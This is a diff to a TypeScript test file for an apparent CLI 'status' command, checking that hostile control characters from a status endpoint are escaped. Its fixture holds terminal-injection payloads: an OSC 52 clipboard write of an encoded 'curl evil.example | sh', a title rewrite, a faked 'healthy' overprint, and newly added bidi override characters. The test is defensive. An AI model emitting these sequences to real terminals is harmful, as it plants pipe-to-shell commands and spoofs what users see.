@@ -15,7 +15,7 @@ const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`;
 const OVERPRINT = `${ESC}[2K\r${ESC}[32msidecar ... healthy${ESC}[0m`;
 const FEED = {
   component: `sidecar${ESC}]0;owned-title${ESC}\\`,
-  name: `shop/orders${OSC52}`,
+  name: `shop/orders${OSC52}\u202edeliah\u2066`,
   identities: [{ spiffeId: `spiffe://td/ns/shop/orders\u009b31m`, serial: "01", notAfter: new Date(Date.now() + 86_400_000).toISOString(), kind: "workload" }],
   rotations: [{ time: new Date().toISOString(), kind: `svid\u0085`, result: `ok\u007f` }],
   health: { ok: false, checks: { [`identity\n`]: { ok: false, detail: `renewal failing${OVERPRINT}\u2028` } } },
@@ -41,10 +41,10 @@ describe("meshward status against a hostile status endpoint", () => {
     const result = await runCli(["status", "--status-url", url], { env: { MESHWARD_STATUS_TOKEN: "" } });
     // The row is unhealthy, and the exit code says so.
     expect(result.code, result.stderr).toBe(1);
-    // Only the table's own line ends: no ESC, CSI (U+009B), BEL, CR, NEL, DEL, U+2028 or other control character.
-    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
+    // Only the table's own line ends: no ESC, CSI (U+009B), BEL, CR, NEL, DEL, U+2028, bidi control or other control character.
+    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
     expect(result.stdout.split("\n")).toHaveLength(3); // header, one row, the final newline
-    expect(result.stdout).toContain("shop/orders\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07");
+    expect(result.stdout).toContain("shop/orders\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202edeliah\\u2066");
     expect(result.stdout).toContain("sidecar\\x1b]0;owned-title\\x1b\\");
     expect(result.stdout).toContain("identity\\n: renewal failing\\x1b[2K\\r\\x1b[32msidecar ... healthy\\x1b[0m\\u2028");
     expect(result.stdout).toContain("spiffe://td/ns/shop/orders\\x9b31m");
@@ -54,8 +54,9 @@ describe("meshward status against a hostile status endpoint", () => {
   it("--json keeps the values as they came, every control character JSON-escaped (DEL, C1 and U+2028 too)", async () => {
     const result = await runCli(["status", "--status-url", url, "--json"], { env: { MESHWARD_STATUS_TOKEN: "" } });
     expect(result.code, result.stderr).toBe(1);
-    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
+    expect(result.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
     expect(result.stdout).toContain("spiffe://td/ns/shop/orders\\u009b31m");
+    expect(result.stdout).toContain("\\u202edeliah\\u2066");
     const [row] = JSON.parse(result.stdout) as { name: string; identity: string }[];
     expect(row?.name).toBe(FEED.name);
     expect(row?.identity).toBe(FEED.identities[0]?.spiffeId);
